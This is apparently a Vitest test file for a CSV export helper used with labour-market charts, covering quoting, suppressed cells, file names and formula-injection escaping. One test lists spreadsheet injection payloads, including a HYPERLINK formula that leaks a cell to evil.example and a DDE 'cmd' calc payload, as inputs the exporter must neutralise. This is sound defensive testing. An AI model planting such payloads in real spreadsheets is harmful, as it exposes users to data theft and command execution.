import { describe, expect, it } from 'vitest';
import { csvFileName, toCsv } from './csv.js';

describe('CSV download of a chart', () => {
  it('writes the header and rows, quoting commas and quotes, numbers unformatted', () => {
    const csv = toCsv({
      columns: [
        { key: 'a', label: 'Industry' },
        { key: 'b', label: 'Postings' },
      ],
      rows: [
        ['Health care, social assistance', 12345.5],
        ['Say "hi"', 0],
      ],
    });
    expect(csv).toBe('Industry,Postings\r\n"Health care, social assistance",12345.5\r\n"Say ""hi""",0\r\n');
  });

  it('writes a suppressed cell as the suppression label with k, never as 0, and missing values empty', () => {
    const csv = toCsv({ columns: [{ key: 'a', label: 'Credential' }, { key: 'b', label: 'Earners' }, { key: 'c', label: 'Median' }], rows: [['CNA', { suppressed: true }, null]] }, 10);
    expect(csv.split('\r\n')[1]).toBe('CNA,suppressed (fewer than 10 people),');
    expect(csv).not.toMatch(/,0/);
  });

  it('neutralises spreadsheet formulas in text cells', () => {
    const csv = toCsv({ columns: [{ key: 'a', label: 'Name' }], rows: [['=HYPERLINK("x")']] });
    expect(csv.split('\r\n')[1]).toBe('"\'=HYPERLINK(""x"")"');
  });

  it('neutralises every formula trigger of the attack review (= + - @, leading tab, leading CR) and leaves numbers alone', () => {
    const payloads = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', '@SUM(1)', "+SUM(1+1)*cmd|' /C calc'!A0", '=1+1 cred', '-2+3', '\t=1+2', '\r=1+2'];
    const csv = toCsv({ columns: [{ key: 'a', label: 'Name' }, { key: 'b', label: 'Gap' }], rows: payloads.map((p) => [p, -12.5]) });
    const lines = csv.split('\r\n').slice(1, -1).join('\n');
    for (const p of payloads) expect(csv).toContain(`'${p.replace(/"/g, '""')}`);
    // no cell (after its opening quote, if any) starts with a trigger; the numbers are plain numbers
    expect(csv.match(/(^|,|\n)"?[=+@\t]/g)).toBeNull();
    expect(lines.split(',-12.5').length - 1).toBe(payloads.length);
  });

  it('names the file after the chart title', () => {
    expect(csvFileName('Recognition rate by industry (NAICS)')).toBe('recognition-rate-by-industry-naics.csv');
  });
});
